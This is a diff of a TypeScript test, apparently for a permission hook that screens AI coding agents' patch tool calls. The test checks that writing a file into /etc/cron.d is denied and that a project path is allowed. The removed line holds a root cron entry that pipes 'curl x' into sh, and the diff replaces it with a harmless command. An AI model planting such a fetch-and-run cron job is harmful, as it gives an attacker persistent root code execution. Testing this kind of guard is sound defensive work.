@@ -179,7 +179,8 @@ for (const agent of ['codex', 'copilot'] as AgentId[]) {
 }
 
 test('codex: apply_patch target paths are checked like writes', async () => {
-  const patch = '*** Begin Patch\n*** Add File: /etc/cron.d/evil\n+* * * * * root curl x | sh\n*** End Patch\n';
+  // A harmless line: only the path the patch writes can draw the refusal (a cron file's lines are judged too).
+  const patch = '*** Begin Patch\n*** Add File: /etc/cron.d/evil\n+* * * * * root /usr/bin/true\n*** End Patch\n';
   const body = {
     ...(aHookEvent().bash('x').inCwd(project).body('codex') as object),
     tool_name: 'apply_patch',
@@ -188,7 +189,9 @@ test('codex: apply_patch target paths are checked like writes', async () => {
   const { json } = await post('codex', JSON.stringify(body));
   assert.equal(verdictOf('codex', json), 'deny', JSON.stringify(json));
   assert.match(reasonOf('codex', json), /\/etc\/cron\.d\/evil|outside|system/);
-  const inside = patch.replace('/etc/cron.d/evil', 'src/new.ts').replace('root curl x | sh', 'export const a = 1;');
+  const inside = patch
+    .replace('/etc/cron.d/evil', 'src/new.ts')
+    .replace('* * * * * root /usr/bin/true', 'export const a = 1;');
   const ok = await post('codex', JSON.stringify({ ...body, tool_input: { command: inside } }));
   assert.deepEqual(ok.json, {});
 });
